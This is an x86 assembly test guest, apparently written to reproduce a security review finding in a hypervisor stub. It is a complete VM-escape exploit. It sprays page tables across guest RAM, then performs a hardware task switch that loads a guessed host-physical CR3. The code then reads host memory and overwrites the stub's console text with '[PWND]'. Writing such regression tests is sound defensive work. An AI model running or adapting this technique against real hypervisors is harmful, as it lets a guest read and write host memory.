/* tssescape: an attacker's try at leaving the guest with a hardware task
 * switch (the security review's finding: on SVM with shadow paging the
 * stub intercepted MOV to CR3 but not task switches, so a JMP to a TSS
 * loaded the TSS's CR3 field into the hardware CR3, where the shadow root
 * should be; the guest then maps host memory).
 *
 * Under shadow paging the hardware runs the guest with CR3 = a shadow PAE
 * PDPT and CR0.PG = CR4.PAE = 1 whatever the guest believes. A task
 * switch loads the new task's CR3 as a host-physical PDPT. The guest
 * cannot read its own host-physical address, but the stub's layout is
 * deterministic: guest RAM is the first host allocation, 2 MiB aligned,
 * right after the loaded image (kernel-stub/src/vm.rs `build`,
 * memory.rs), and the image (stub, manifest, server ELFs, guest) is about
 * 14.4 MB loaded at 1 MiB, so guest RAM starts at host-physical 16 MiB
 * (HOST_RAM_GUESS). The guess is made robust by a spray: the same
 * "template" (a PAE PDPT, a page directory mapping host-physical 0-1 GiB
 * with 2 MiB pages, a GDT, the attack code and its stack) is copied to the
 * same offset TPL of every 2 MiB block of guest RAM. The task's CR3, EIP,
 * ESP, the PDPT entries and the GDT's linear address all name the copy in
 * block GUESS_BLOCK; if the real base differs from the guess by k * 2 MiB
 * (both are 2 MiB aligned), they all name the copy in block
 * GUESS_BLOCK - k instead, which is identical. With 16 MiB of guest RAM
 * (8 blocks) any base from 10 MiB to 24 MiB lands.
 *
 * The GDT is read after the CR3 load (CS and SS of the new task), through
 * the new tables: GDTR holds the linear address 1 GiB + guess + offset,
 * which the guest's own tables (PDPT entry 1) map to the block's GDT and
 * the host tables (every PDPT entry names the identity page directory,
 * so 1 GiB + x is host-physical x) map to the GDT copy the guess lands in.
 *
 * In the new task (ring 0, host tables) the position-independent attack
 * code first, before any exit, scans host-physical 1 MiB up to guest RAM
 * for the stub's console text "[stub]" and rewrites it to "[PWND]" (every
 * later line of the stub then starts with it); then it prints where it
 * ran, `tssescape: ESCAPED host memory readable` with the text it found,
 * `tssescape: ESCAPED host memory writable`, and ends with status 0.
 * A stub that refuses the task switch ends the VM itself (`vm failed`);
 * an exception in the old task ends with status 2 after
 * `tssescape: exception 0x...`; a task switch that returns, status 1.
 *
 * Under nested paging the task's CR3 is guest-physical: the guess lies
 * beyond guest RAM and nothing of the host is reachable. */
    .intel_syntax noprefix
    .code32

#include "com1.inc"
#include "print.inc"

#define HOST_RAM_GUESS 0x01000000   /* host-physical base of guest RAM, guessed */
#define BLOCK          0x00200000   /* guest RAM is 2 MiB aligned on the host */
#define BLOCKS         8            /* 16 MiB of guest RAM */
#define GUESS_BLOCK    4            /* the block the guesses name */
#define TPL            0x00180000   /* the template's offset in each block */
#define TPL_PDPT       0x0000
#define TPL_PD         0x1000
#define TPL_GDT        0x2000
#define TPL_INDEX      0x2800       /* the block's number, to learn the real base */
#define TPL_CODE       0x3000
#define TPL_STACK_TOP  0x8000

/* Host-physical addresses of the template copy in block GUESS_BLOCK if
 * guest RAM starts at HOST_RAM_GUESS. */
#define GUESS_TPL      (HOST_RAM_GUESS + GUESS_BLOCK * BLOCK + TPL)
#define NEW_CR3        (GUESS_TPL + TPL_PDPT)
#define NEW_EIP        (GUESS_TPL + TPL_CODE)
#define NEW_ESP        (GUESS_TPL + TPL_STACK_TOP)
/* GDTR's linear address, valid in both address spaces (see above). */
#define GDT_LINEAR     (0x40000000 + GUESS_TPL + TPL_GDT)

#define SEL_CODE  0x08
#define SEL_DATA  0x10
#define SEL_TSS_A 0x18
#define SEL_TSS_B 0x20
#define GDT_BYTES 0x28

    .section .text.start, "ax"
    .globl _start
_start:
    cli
    mov esp, offset stack_top
    call uart_init
    mov esi, offset msg_start
    call uart_puts

    /* An IDT for the old task: every exception says which and ends. */
    xor ecx, ecx
1:  lea eax, [exc_stubs + ecx * 8]
    lea edi, [idt + ecx * 8]
    mov [edi], ax
    mov word ptr [edi + 2], SEL_CODE
    mov word ptr [edi + 4], 0x8e00
    shr eax, 16
    mov [edi + 6], ax
    add ecx, 1
    cmp ecx, 32
    jb 1b
    lidt [idt_descriptor]

    /* The TSS descriptors (bases are link addresses, known at run time). */
    mov eax, offset tss_a
    lea edi, [gdt + SEL_TSS_A]
    call tss_descriptor
    mov eax, offset tss_b
    lea edi, [gdt + SEL_TSS_B]
    call tss_descriptor

    /* The spray: the template in every 2 MiB block (paging still off). */
    xor ebx, ebx                      /* block number */
2:  mov edi, ebx
    shl edi, 21
    add edi, TPL                      /* this block's template */
    /* PDPT: four entries, each the guessed page directory (P only). */
    mov eax, GUESS_TPL + TPL_PD + 1
    mov [edi + TPL_PDPT + 0], eax
    mov [edi + TPL_PDPT + 8], eax
    mov [edi + TPL_PDPT + 16], eax
    mov [edi + TPL_PDPT + 24], eax
    xor eax, eax
    mov [edi + TPL_PDPT + 4], eax
    mov [edi + TPL_PDPT + 12], eax
    mov [edi + TPL_PDPT + 20], eax
    mov [edi + TPL_PDPT + 28], eax
    /* Page directory: host-physical 0-1 GiB, 2 MiB pages, RW, ring 0. */
    xor ecx, ecx
3:  mov eax, ecx
    shl eax, 21
    or eax, 0x83
    mov [edi + TPL_PD + ecx * 8], eax
    mov dword ptr [edi + TPL_PD + ecx * 8 + 4], 0
    add ecx, 1
    cmp ecx, 512
    jb 3b
    /* The GDT, the block's number, the code. */
    push edi
    mov esi, offset gdt
    add edi, TPL_GDT
    mov ecx, GDT_BYTES / 4
    cld
    rep movsd
    pop edi
    mov [edi + TPL_INDEX], ebx
    push edi
    mov esi, offset esc_start
    add edi, TPL_CODE
    mov ecx, offset esc_end
    sub ecx, offset esc_start
    rep movsb
    pop edi
    add ebx, 1
    cmp ebx, BLOCKS
    jb 2b
    mov esi, offset msg_spray
    call uart_puts

    /* The guest's own PAE tables: 0-16 MiB one to one, and 1 GiB +
     * HOST_RAM_GUESS + x -> guest-physical x for the GDT's alias. */
    xor ecx, ecx
4:  mov eax, ecx
    shl eax, 21
    or eax, 0x83
    mov [pd_low + ecx * 8], eax
    mov [pd_alias + ((HOST_RAM_GUESS >> 21) * 8) + ecx * 8], eax
    add ecx, 1
    cmp ecx, BLOCKS
    jb 4b
    mov eax, offset pd_low
    or eax, 1
    mov [pdpt], eax
    mov eax, offset pd_alias
    or eax, 1
    mov [pdpt + 8], eax
    mov eax, cr4
    or eax, 0x20                      /* PAE */
    mov cr4, eax
    mov eax, offset pdpt
    mov cr3, eax
    mov eax, cr0
    or eax, 0x80000000                /* PG */
    mov cr0, eax
    jmp 5f
5:  mov esi, offset msg_paging
    call uart_puts

    /* The GDT through its alias, then a TSS for the current task. */
    lgdt [gdt_descriptor]
    ljmp SEL_CODE, offset 6f
6:  mov ax, SEL_DATA
    mov ds, ax
    mov es, ax
    mov ss, ax
    mov fs, ax
    mov gs, ax
    mov ax, SEL_TSS_A
    ltr ax
    /* Touch for writing what the task switch writes (the GDT, both TSSs),
     * so that no shadow page fault interrupts it half done. */
    mov eax, GDT_LINEAR
    mov ecx, [eax + SEL_TSS_B + 4]
    mov [eax + SEL_TSS_B + 4], ecx
    mov ecx, [tss_a]
    mov [tss_a], ecx
    mov ecx, [tss_a + 0x64]
    mov [tss_a + 0x64], ecx
    mov ecx, [tss_b]
    mov [tss_b], ecx

    mov esi, offset msg_jump
    call uart_puts
    mov eax, NEW_CR3
    call print_hex32
    mov esi, offset msg_eip
    call uart_puts
    mov eax, NEW_EIP
    call print_hex32
    call print_nl

    ljmp SEL_TSS_B, 0

    /* A JMP to a task does not come back here. */
    mov esi, offset msg_returned
    call uart_puts
    mov al, 1
    out DEBUG_EXIT, al
    jmp halt_forever

/* EDI = a GDT slot, EAX = the base of a 104-byte 32-bit TSS: an available
 * 32-bit TSS descriptor, DPL 0. */
tss_descriptor:
    mov word ptr [edi], 0x67
    mov [edi + 2], ax
    shr eax, 16
    mov [edi + 4], al
    mov byte ptr [edi + 5], 0x89
    mov byte ptr [edi + 6], 0
    mov [edi + 7], ah
    ret

/* Exceptions of the old task: the vector, then status 2. */
    .balign 8
exc_stubs:
    .set vector, 0
    .rept 32
    .balign 8
    push vector
    jmp exc_common
    .set vector, vector + 1
    .endr
exc_common:
    mov esi, offset msg_exception
    call uart_puts
    pop eax
    call print_hex32
    call print_nl
    mov al, 2
    out DEBUG_EXIT, al
    jmp halt_forever

/* The attack code, copied into every block and entered by the task
 * switch with CR3 = the host tables: position independent, self
 * contained (its own COM1 output, its own strings). It does its damage
 * before its first exit (a port access), as an attacker would: a check
 * at the next exit comes too late, and the rewritten text shows in the
 * stub's own lines whatever happens next. */
    .balign 16
esc_start:
    call 1f
1:  pop ebp
    lea ebp, [ebp - (1b - esc_start)]  /* EBP = where this copy runs */
    mov esp, ebp
    add esp, TPL_STACK_TOP - TPL_CODE
    /* This block's number gives the real host-physical base of guest RAM. */
    mov ebx, ebp
    sub ebx, TPL_CODE + TPL
    mov eax, [ebp - TPL_CODE + TPL_INDEX]
    shl eax, 21
    sub ebx, eax                      /* EBX = host-physical guest RAM */

    /* Scan host-physical 1 MiB .. guest RAM for "[stub]" (compared as
     * immediates: the guest holds no copy of the text itself). */
    xor edx, edx                      /* where it was found, 0: nowhere */
    mov edi, 0x100000
2:  cmp dword ptr [edi], 0x7574735b    /* "[stu" */
    jne 3f
    cmp word ptr [edi + 4], 0x5d62     /* "b]" */
    je 4f
3:  add edi, 1
    cmp edi, ebx
    jb 2b
    jmp 8f
4:  mov edx, edi
    /* Keep up to 47 printable bytes of it, then rewrite it:
     * "[stub]" -> "[PWND]". */
    lea esi, [ebp + (e_text - esc_start)]
    xor ecx, ecx
5:  mov al, [edi + ecx]
    cmp al, 0x20
    jb 6f
    cmp al, 0x7e
    ja 6f
    mov [esi + ecx], al
    add ecx, 1
    cmp ecx, 47
    jb 5b
6:  mov byte ptr [esi + ecx], 0
    mov dword ptr [edi + 1], 0x444e5750    /* "PWND" */

    /* Now the report (each port access is an exit). */
8:  lea esi, [ebp + (e_msg_in - esc_start)]
    call e_puts
    mov eax, ebp
    call e_hex
    lea esi, [ebp + (e_msg_ram - esc_start)]
    call e_puts
    mov eax, ebx
    call e_hex
    mov al, '\n'
    call e_putc
    test edx, edx
    jnz 9f
    lea esi, [ebp + (e_msg_none - esc_start)]
    call e_puts
    mov al, 3
    out DEBUG_EXIT, al
    jmp 11f
9:  lea esi, [ebp + (e_msg_read - esc_start)]
    call e_puts
    lea esi, [ebp + (e_msg_at - esc_start)]
    call e_puts
    mov eax, edx
    call e_hex
    mov al, ':'
    call e_putc
    mov al, ' '
    call e_putc
    mov al, '"'
    call e_putc
    lea esi, [ebp + (e_text - esc_start)]
    call e_puts
    mov al, '"'
    call e_putc
    mov al, '\n'
    call e_putc
    cmp dword ptr [edx + 1], 0x444e5750
    jne 10f
    lea esi, [ebp + (e_msg_write - esc_start)]
    call e_puts
10: xor al, al
    out DEBUG_EXIT, al
11: cli
    hlt
    jmp 11b

/* COM1 output for the attack code. */
e_putc:
    push edx
    push eax
1:  mov dx, COM1_LSR
    in al, dx
    test al, LSR_THRE
    jz 1b
    pop eax
    push eax
    mov dx, COM1_THR
    out dx, al
    pop eax
    pop edx
    ret
e_puts:
1:  mov al, [esi]
    test al, al
    jz 2f
    call e_putc
    add esi, 1
    jmp 1b
2:  ret
e_hex:
    push ebx
    push ecx
    mov ebx, eax
    mov al, '0'
    call e_putc
    mov al, 'x'
    call e_putc
    mov ecx, 8
1:  rol ebx, 4
    mov al, bl
    and al, 0x0f
    add al, '0'
    cmp al, '9'
    jbe 2f
    add al, 'a' - '9' - 1
2:  call e_putc
    sub ecx, 1
    jnz 1b
    pop ecx
    pop ebx
    ret
e_msg_in:    .asciz "tssescape: in the new task, running at host-physical "
e_msg_ram:   .asciz ", guest RAM at host-physical "
e_msg_none:  .asciz "tssescape: in the new task, but no stub console text below guest RAM\n"
e_msg_read:  .asciz "tssescape: ESCAPED host memory readable\n"
e_msg_at:    .asciz "tssescape: host-physical "
e_msg_write: .asciz "tssescape: ESCAPED host memory writable: the stub's console text now reads [PWND]\n"
e_text:      .skip 48
    .balign 4
esc_end:

    .section .rodata
msg_start:    .asciz "tssescape: flat protected mode; spraying the task-switch template\n"
msg_spray:    .asciz "tssescape: template in every 2 MiB block of guest RAM\n"
msg_paging:   .asciz "tssescape: PAE paging on (identity), GDT through its alias\n"
msg_jump:     .asciz "tssescape: far jump to a TSS with CR3 = host-physical "
msg_eip:      .asciz ", EIP = "
msg_returned: .asciz "tssescape: the task switch returned\n"
msg_exception: .asciz "tssescape: exception "
    .balign 8
idt_descriptor:
    .word 32 * 8 - 1
    .long idt
gdt_descriptor:
    .word GDT_BYTES - 1
    .long GDT_LINEAR

    .section .data
    .balign 8
gdt:
    .quad 0
    .quad 0x00cf9a000000ffff          /* 0x08: code, flat, ring 0 */
    .quad 0x00cf92000000ffff          /* 0x10: data, flat, ring 0 */
    .quad 0                           /* 0x18: TSS A (the current task) */
    .quad 0                           /* 0x20: TSS B (the attack task) */

    .balign 128
tss_a:
    .skip 0x66
    .word 0x68                        /* no I/O bitmap */
    .balign 128
tss_b:
    .long 0                           /* 0x00 link */
    .long 0, 0, 0, 0, 0, 0            /* 0x04 ESP0 .. SS2 */
    .long NEW_CR3                     /* 0x1c CR3: a host-physical guess */
    .long NEW_EIP                     /* 0x20 EIP */
    .long 2                           /* 0x24 EFLAGS: IF clear */
    .long 0, 0, 0, 0                  /* 0x28 EAX, ECX, EDX, EBX */
    .long NEW_ESP                     /* 0x38 ESP */
    .long 0, 0, 0                     /* 0x3c EBP, ESI, EDI */
    .long SEL_DATA                    /* 0x48 ES */
    .long SEL_CODE                    /* 0x4c CS */
    .long SEL_DATA                    /* 0x50 SS */
    .long SEL_DATA                    /* 0x54 DS */
    .long SEL_DATA                    /* 0x58 FS */
    .long SEL_DATA                    /* 0x5c GS */
    .long 0                           /* 0x60 LDT */
    .word 0                           /* 0x64 T */
    .word 0x68                        /* 0x66 no I/O bitmap */

    .section .bss
    .balign 4096
pdpt:     .skip 4096
pd_low:   .skip 4096
pd_alias: .skip 4096
idt:      .skip 32 * 8
    .balign 16
    .skip 4096
stack_top:
